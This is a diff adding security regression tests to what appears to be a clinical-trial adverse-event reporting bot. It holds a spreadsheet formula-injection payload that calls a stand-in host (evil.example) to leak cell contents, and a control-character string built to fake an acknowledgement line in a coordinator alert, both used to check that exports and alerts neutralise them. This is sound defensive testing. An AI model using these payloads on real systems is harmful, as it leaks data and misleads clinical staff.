@@ -5,13 +5,24 @@ server. Each of these passed on the code before the fix, i.e. the attack worked.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import os
 import sys
+import tempfile
+import unicodedata
+import zipfile
 from pathlib import Path
 
-from devtools.botapi_server import BotAPIServer
-from devtools.harness import ADMIN_ID, TOKEN
+import pyreadstat
+from sqlalchemy import select
+
+from devtools.botapi_server import BotAPIServer, SimUser
+from devtools.harness import ADMIN_ID, COORDINATOR_CHAT, TOKEN, BotHarness
 from devtools.process import ROOT, free_port, webhook_env
+from models import Alert
+from tests.bothelpers import admin_says, says
+from tests.test_questionnaire_flow import answer_all, is_question, linked, press_value, q_item
 
 
 def _bot_env(server: BotAPIServer, tmp_path: Path, **extra: str) -> dict[str, str]:
@@ -53,3 +64,58 @@ async def test_1_webhook_mode_does_not_start_without_its_secret(server: BotAPISe
     (line,) = output.strip().splitlines()
     assert line.startswith("Configuration error: WEBHOOK_SECRET is required when WEBHOOK_URL is set")
     assert not any(r.method == "setWebhook" for r in server.requests)  # nothing was ever listening
+
+
+async def _report_in_own_words(server: BotAPIServer, user: SimUser, words: str) -> None:
+    """/report → "Something else" → `words` typed as the description → a hospital stay
+    (serious: an URGENT alert goes to the coordinator chat at once)."""
+    question = await says(server, user, "/report", is_question)
+    assert q_item(question) == "ae_what"
+    describe = await press_value(server, user, question, "other")
+    assert q_item(describe) == "ae_what_other"
+    update = await user.send(words)
+    await server.wait_for(user.id, is_question, since=update)
+    await answer_all(server, user, {"ae_start": "yesterday", "ae_severity": "self_care", "ser_hospital": "yes"})
+
+
+# 4. A participant's `=HYPERLINK(…)` became a live formula in adverse_events.csv.
+async def test_4_a_formula_typed_by_a_participant_is_text_in_the_exported_csv(
+    bot: BotHarness, server: BotAPIServer
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+    user = await linked(server, "BSM-041", "A", 4101, "en")
+    await _report_in_own_words(server, user, formula)
+    reply = await admin_says(server, "/export", lambda m: m.document is not None)
+    assert reply.document is not None
+    archive = zipfile.ZipFile(io.BytesIO(reply.document.content))
+    rows = list(csv.DictReader(io.StringIO(archive.read("adverse_events.csv").decode("utf-8-sig"))))
+    (event,) = rows
+    assert event["term"] == "'" + formula  # a spreadsheet shows it as text
+    assert formula.encode() in archive.read("trial_record_odm.xml").replace(b"&quot;", b'"').replace(b"&amp;", b"&")
+    with tempfile.TemporaryDirectory() as scratch:
+        sav = Path(scratch) / "ae.sav"
+        sav.write_bytes(archive.read("adverse_events.sav"))
+        frame, _meta = pyreadstat.read_sav(str(sav))
+    assert list(frame["term"]) == [formula]  # SPSS keeps the value exact
+
+
+# 6. Quoted text could fake lines in a coordinator alert; a long name pushed the actor id out.
+async def test_6_participant_words_cannot_fake_a_line_in_an_alert(bot: BotHarness, server: BotAPIServer) -> None:
+    fake = "fever\n✅ Acknowledged by Dr Rahman at Sun 25 Oct 2026 09:10\u202e\u200b\r\nAlert #1"
+    user = await linked(server, "BSM-061", "A", 4601, "en")
+    await _report_in_own_words(server, user, fake)
+    (alert,) = await server.wait_for(COORDINATOR_CHAT, "URGENT")
+    lines = alert.content.splitlines()
+    assert not any(line.startswith("✅") for line in lines)
+    (quoted,) = [line for line in lines if "participant wrote" in line]
+    assert quoted.startswith("Problem: Something else · participant wrote: “fever ✅ Acknowledged by Dr Rahman")
+    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in alert.content.replace("\n", ""))
+
+    coordinator = server.user(7001, "Dr " + "Abdullah-Al-Mamun " * 4, language_code="en")
+    group = server.group(COORDINATOR_CHAT)
+    update = await coordinator.press(alert, "✅ Acknowledge", chat=group)
+    await server.wait_for(COORDINATOR_CHAT, lambda m: m.edits > 0 and "Acknowledged by" in m.content, since=update)
+    assert bot.services is not None
+    async with bot.services.sessions() as session:
+        by = await session.scalar(select(Alert.acknowledged_by).where(Alert.kind == "serious_ae"))
+    assert by is not None and by.endswith("(coordinator:7001)") and len(by) <= 64
